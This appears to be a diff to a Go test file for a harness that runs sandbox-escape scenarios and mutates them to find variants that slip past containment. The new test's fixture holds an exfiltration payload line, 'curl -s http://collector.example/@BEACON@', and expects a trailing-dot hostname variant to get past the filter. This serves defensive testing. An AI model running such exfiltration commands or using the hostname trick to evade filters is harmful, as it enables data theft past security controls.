@@ -139,6 +139,33 @@ func TestAlone(t *testing.T) {
 	}
 }
 
+// A variation that breaks through is found, made small and given as a scenario.
+func TestSearch(t *testing.T) {
+	text := "title: t\ncategory: NET\noutcome: exfiltration\ntiers: [process]\nattacker: a\ncovers: [NET-01]\nmutators: [destinations]\n" +
+		"effects: [{at: thief, has: beacon}]\ntwin: [{at: ./r, has: beacon}]\n-- payload.sh --\necho one\necho two\ncurl -s http://collector.example/@BEACON@\necho three\n-- twin.sh --\ntrue\n"
+	s, err := scenario.Parse("x.txtar", []byte(text))
+	if err != nil {
+		t.Fatal(err)
+	}
+	r, err := Run(t.Context(), Config{Scenarios: []Item{{s, []byte(text)}}, Tiers: []string{"process"}, Runs: 1, Mutate: 60, Seed: 3,
+		Perform: func(_ context.Context, j stage.Job, _ string) (stage.Outcome, error) {
+			if j.Kind == stage.Attack && (j.Tier == stage.None || strings.Contains(j.Payload, "collector.example.")) {
+				return success, nil
+			}
+			return stage.Outcome{}, nil
+		}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	found := r.Rows[0].Searches[0].Found
+	if r.OK || len(found) != 1 || !strings.Contains(found[0].Source, "-- payload.sh --\ncurl -s http://collector.example./@BEACON@\n-- twin.sh --") {
+		t.Fatalf("%+v", r.Rows[0].Searches[0])
+	}
+	if _, err := scenario.Parse("y.txtar", []byte(found[0].Source)); err != nil {
+		t.Error(err)
+	}
+}
+
 func TestWrongConfigs(t *testing.T) {
 	for _, c := range []Config{{}, {Scenarios: []Item{item("a")}}, {Scenarios: []Item{item("a")}, Runs: 5000}} {
 		if _, err := Run(t.Context(), c); err == nil {
